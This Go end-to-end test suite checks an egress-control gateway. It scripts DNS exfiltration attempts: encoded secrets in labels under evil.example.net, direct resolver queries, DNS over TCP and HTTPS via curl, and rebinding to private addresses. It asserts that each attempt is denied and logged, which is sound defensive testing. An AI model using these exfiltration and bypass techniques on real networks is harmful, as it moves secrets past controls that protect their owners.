package e2e

import (
	"fmt"
	"net/http"
	"net/netip"
	"strings"
	"testing"

	"scupper.dev/scupper/replay"
)

// TestNamesStayInside tries to get data out through DNS.
func TestNamesStayInside(t *testing.T) {
	const control = `attempt("granted", lambda: dns("api.example.com"))
`
	for _, tc := range []struct {
		name, script  string
		tries, denied []string
	}{
		{
			"DNS-01 secret in a label", `
attempt("denied", lambda: dns("c2VjcmV0.evil.example.net"))
attempt("under a granted name", lambda: dns("c2VjcmV0.api.example.com"))
attempt("TXT", lambda: dns("c2VjcmV0.evil.example.net", 16))
attempt("NULL", lambda: dns("x.evil.example.net", 10))
attempt("ANY of a granted name", lambda: dns("api.example.com", 255))
attempt("TXT of a granted name", lambda: dns("api.example.com", 16))
attempt("PTR", lambda: dns("1.2.3.4.in-addr.arpa", 12))
attempt("NUL in a label", lambda: dns(b"\x04ev\0l\x07example\x03com\0"))
attempt("bytes in a label", lambda: dns(b"\x04\xff\xfe\xfd\xfc\x07example\x03com\0"))
attempt("dot in a label", lambda: dns(b"\x0bapi.example\x03com\0"))
`,
			[]string{
				"denied: NXDOMAIN", "under a granted name: NXDOMAIN", "TXT: NXDOMAIN", "NULL: NXDOMAIN", "ANY of a granted name: NOERROR 0", "TXT of a granted name: NOERROR 0",
				"PTR: NXDOMAIN", "NUL in a label: NXDOMAIN", "bytes in a label: NXDOMAIN", "dot in a label: NXDOMAIN",
			},
			[]string{
				"name no_grant c2vjcmv0.evil.example.net", "name no_grant c2vjcmv0.api.example.com", "name no_grant x.evil.example.net",
				"name no_grant 1.2.3.4.in-addr.arpa", "name malformed_host", "name malformed_host", "name malformed_host",
			},
		}, {
			"DNS-02 straight to a server", `
for server in "8.8.8.8", "2001:4860:4860::8888", "127.0.0.1", "100.64.0.2", "203.0.113.53":
    attempt(server, lambda: dns("secret.evil.example.net", server=server), 3)
    attempt(server + " granted", lambda: dns("api.example.com", server=server))
`,
			[]string{
				"8.8.8.8: NXDOMAIN", "8.8.8.8 granted: NOERROR 1", "2001:4860:4860::8888: NXDOMAIN", "2001:4860:4860::8888 granted: NOERROR 1",
				"127.0.0.1: NXDOMAIN", "127.0.0.1 granted: NOERROR 1", "100.64.0.2: NXDOMAIN", "100.64.0.2 granted: NOERROR 1",
				"203.0.113.53: NXDOMAIN", "203.0.113.53 granted: NOERROR 1",
			},
			[]string{"name no_grant secret.evil.example.net"},
		}, {
			"DNS-03 over TCP", `
for server in GATEWAY, "8.8.8.8", "2001:4860:4860::8888":
    attempt(server, lambda: dns_tcp("secret.evil.example.net", server=server), 3)
    attempt(server + " granted", lambda: dns_tcp("api.example.com", server=server))
attempt("DoT", lambda: tcp("8.8.8.8", 853), 3)
attempt("not DNS", lambda: tcp("8.8.8.8", 53, b"SSH-2.0-x\r\n" + bytes(0x5353 - 9)))
`,
			[]string{
				"100.64.0.1: NXDOMAIN", "100.64.0.1 granted: NOERROR 1", "8.8.8.8: NXDOMAIN", "8.8.8.8 granted: NOERROR 1",
				"2001:4860:4860::8888: NXDOMAIN", "2001:4860:4860::8888 granted: NOERROR 1", "DoT: Connection refused", "not DNS: answer",
			},
			[]string{"name no_grant secret.evil.example.net", "packet port_not_granted tcp 8.8.8.8:853", "name malformed_name"},
		}, {
			"DNS-04 two messages in one segment", `
attempt("two", lambda: dns_tcp("api.example.com", "secret.evil.example.net"))
attempt("three", lambda: dns_tcp("one.evil.example.net", "api.example.com", "two.evil.example.net"))
`,
			[]string{"two: NOERROR 1, NXDOMAIN", "three: NXDOMAIN, NOERROR 1, NXDOMAIN"},
			[]string{"name no_grant secret.evil.example.net", "name no_grant one.evil.example.net", "name no_grant two.evil.example.net"},
		}, {
			"DNS-05 a denied request is not resolved", `
host = b"secret.evil.example.net"
attempt("CONNECT", lambda: explicit(b"CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (host, host)), 3)
attempt("GET", lambda: explicit(get(host, b"http://" + host + b"/")), 3)
attempt("path", lambda: tls("api.example.com", get("api.example.com", "/private"), tunnel=True))
attempt("method", lambda: tls("api.example.com", b"PUT /public/a HTTP/1.1\r\nHost: api.example.com\r\n\r\n"))
`,
			[]string{"CONNECT: 403 no_grant", "GET: 403 no_grant", "path: 403 path_not_granted", "method: 403 method_not_granted"},
			[]string{
				"connect no_grant secret.evil.example.net:443", "http no_grant GET secret.evil.example.net /",
				"http path_not_granted GET api.example.com /private", "http method_not_granted PUT api.example.com /public/a",
			},
		}, {
			"DNS-09 types 64 and 65", `
for qtype in 64, 65:
    attempt("%d" % qtype, lambda: dns("api.example.com", qtype), 3)
    attempt("%d denied" % qtype, lambda: dns("secret.evil.example.net", qtype), 3)
`,
			[]string{"64: NOERROR 0", "64 denied: NXDOMAIN", "65: NOERROR 0", "65 denied: NXDOMAIN"},
			[]string{"name no_grant secret.evil.example.net"},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t, ordinaryUser(t))
			w.policy(publicAPI)
			w.attack(w.probe(control + tc.script)).wantTries(append([]string{"granted: NOERROR 1"}, tc.tries...)...).wantDenials(tc.denied...).farSideNothing()
		})
	}
}

// anyOf grants GET of /public/{name} under a wildcard.
const anyOf = `version = 1

grant "any" {
  reason     = "test"
  owner      = "test"
  host       = "*.wild.example.com"
  credential = anonymous
  allow {
    methods = ["GET"]
    path    = "/public/{name}"
  }
  limits {
    names = 5
  }
}
`

func TestWildcardNames(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	w.policy(anyOf)
	t.Run("DNS-06 random labels", func(t *testing.T) {
		w.attack(w.probe(`
for label in "a", "k3jh5k", "zq9x1", "mm-4", "last", "sixth":
    attempt(label, lambda: dns(label + ".wild.example.com"))
attempt("known", lambda: dns("a.wild.example.com"))
attempt("deeper", lambda: dns("data.a.wild.example.com"))
attempt("request", lambda: tls("last.wild.example.com", get("last.wild.example.com", "/public/a")))
`)).wantTries("a: NOERROR 1", "k3jh5k: NOERROR 1", "zq9x1: NOERROR 1", "mm-4: NOERROR 1", "last: NOERROR 1", "sixth: NXDOMAIN", "known: NOERROR 1",
			"deeper: NXDOMAIN", "request: 200").
			wantDenials("name limit_exceeded sixth.wild.example.com", "name no_grant data.a.wild.example.com").
			farSide("GET https://last.wild.example.com/public/a")
	})
}

// TestRebinding has a granted name lead where it must not.
func TestRebinding(t *testing.T) {
	bad := []string{
		"127.0.0.1", "::1", "0.0.0.0", "10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", "198.18.0.1", "224.0.0.1", "255.255.255.255",
		"::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::", "fc00::1", "fe80::1", "192.0.2.1", "2001:db8:1::1",
	}
	t.Run("DNS-07 to a private address", func(t *testing.T) {
		w := newWorld(t, ordinaryUser(t))
		w.policy(strings.Replace(anyOf, "names = 5", "names = 100", 1))
		public := netip.MustParseAddr("203.0.113.9")
		var script strings.Builder
		var tries, denials, names []string
		for i, a := range bad {
			name := fmt.Sprintf("bad%d.wild.example.com", i)
			answer := []netip.Addr{netip.MustParseAddr(a)}
			if i%2 == 0 {
				answer = append([]netip.Addr{public}, answer...) // the check must not stop at the first
			}
			w.inet.Resolve(name, replay.At(answer...))
			fmt.Fprintf(&script, "attempt(%q, lambda: tls(%q, get(%q, '/public/a')))\n", a, name, name)
			tries = append(tries, a+": 403 network_not_granted")
			denials, names = append(denials, "http network_not_granted GET "+name+" /public/a"), append(names, name)
		}
		w.attack(w.probe(script.String())).wantTries(tries...).wantDenials(denials...).farSideNames(names...)
	})
	t.Run("DNS-07 after the first request", func(t *testing.T) {
		w := newWorld(t, ordinaryUser(t))
		w.policy(publicAPI)
		w.inet.Handle("api.example.com", closing())
		public, loopback := replay.At(netip.MustParseAddr("203.0.113.9")), replay.At(netip.MustParseAddr("127.0.0.1"))
		w.inet.Resolve("api.example.com", public, loopback)
		a := w.attack(w.probe(`
for _ in range(2):
    attempt("GET", lambda: tls("api.example.com", get("api.example.com", "/public/a")))
`)).wantTries("GET: 200", "GET: 403 network_not_granted").wantDenials("http network_not_granted GET api.example.com /public/a").
			farSide("GET https://api.example.com/public/a")
		if got := a.received; len(got) == 1 && got[0].Destination.String() != "203.0.113.9:443" {
			t.Errorf("dialled %s, want the address that was checked", got[0].Destination)
		}
	})
	t.Run("DNS-09 malformed upstream answer", func(t *testing.T) {
		w := newWorld(t, ordinaryUser(t))
		w.policy(anyOf)
		w.inet.Resolve("broken.wild.example.com", replay.Answer{Malformed: true})
		w.inet.Resolve("gone.wild.example.com", replay.NXDomain())
		// The resolver waits for an answer that makes sense; others do not wait with it.
		w.control(w.probe(`
import probe
for name in "gone.wild.example.com", "broken.wild.example.com", "a.wild.example.com":
    probe.PATIENCE = 0.2 if name.startswith("broken") else 2
    attempt(name, lambda: tls(name, get(name, "/public/a")))
`)).wantTries("gone.wild.example.com: 502 upstream_name", "broken.wild.example.com: The read operation timed out", "a.wild.example.com: 200").
			wantAllowed(3)
	})
}

const withPost = `version = 1

grant "post" {
  reason     = "test"
  owner      = "test"
  host       = "api.example.com"
  credential = anonymous
  allow {
    methods = ["GET"]
    path    = "/dns-query"
    query   = { page = int }
  }
  allow {
    methods = ["POST"]
    path    = "/dns-query"
    body {
      type = "application/json"
      max  = "1KiB"
    }
  }
}
`

func TestDNSOverHTTPS(t *testing.T) {
	const url, message = "https://api.example.com/dns-query", "?dns=AAABAAABAAAAAAAABnNlY3JldAdleGFtcGxlA25ldAAAAQAB"
	w := newWorld(t, ordinaryUser(t))
	w.policy(withPost)
	t.Run("DNS-08 at a granted host", func(t *testing.T) {
		w.control(curl("-H", "Content-Type: application/json", "-d", "{}", url)).wantStatus(200).farSide("POST " + url).wantAllowed(1)
		w.attack(curl("-H", "Content-Type: application/dns-message", "-d", "AAAB", url)).refused(403, "body_not_granted")
		w.attack(curl(url+message)).refused(403, "query_not_granted")
		w.attack(curl("--doh-url", url, "https://evil.example.net/")).wantFailure().wantDenials("http body_not_granted POST api.example.com /dns-query").farSideNothing()
	})
	t.Run("DNS-08 at another host", func(t *testing.T) {
		const other = "https://dns.example.net/dns-query"
		w.attack(curl(other + message)).wantExit(6).wantDenials("name no_grant dns.example.net").farSideNothing()
		w.attack(curl("-x", "http://100.64.0.1:3128", "-p", other+message)).wantExit(56).wantDenials("connect no_grant dns.example.net:443").farSideNothing()
		w.attack(curl("-k", "https://8.8.8.8/dns-query"+message)).wantExit(35).wantDenials("connect address_not_granted 8.8.8.8:443").farSideNothing()
	})
}

// closing answers and ends the connection, so that the next request needs another.
func closing() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Header().Set("Connection", "close") })
}
